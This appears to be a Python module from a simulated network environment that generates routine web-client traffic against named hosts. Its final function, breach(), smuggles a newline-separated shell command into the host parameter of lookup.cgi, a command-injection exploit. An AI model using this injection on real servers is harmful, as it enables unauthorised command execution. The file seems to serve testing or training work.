"""Clients of web: pages, missing pages, and its scripts, some of them rarely."""

from outside import get, quote

HOSTS = ["localhost", "cache", "db", "api", "web", "maps.example", "mail.example", "img.example"]


def visit(host, rng):
    page = rng.choices(["page", "status", "report", "lookup", "missing", "purge"], [60, 8, 8, 12, 5, 1])[0]
    if page == "page":
        get(host, 80, rng.choice(["/", f"/pages/{rng.randint(1, 9)}.html", "/healthz"]))
    elif page == "lookup":
        get(host, 80, "/cgi-bin/lookup.cgi?host=" + quote(rng.choice(HOSTS)))
    elif page == "missing":
        get(host, 80, f"/old/{rng.randint(1, 99999)}.php")
    else:
        get(host, 80, f"/cgi-bin/{page}.cgi")


def breach(host, command):
    """The query of lookup.cgi is evaluated."""
    return get(host, 80, "/cgi-bin/lookup.cgi?host=" + quote("localhost\n" + command, safe=""))
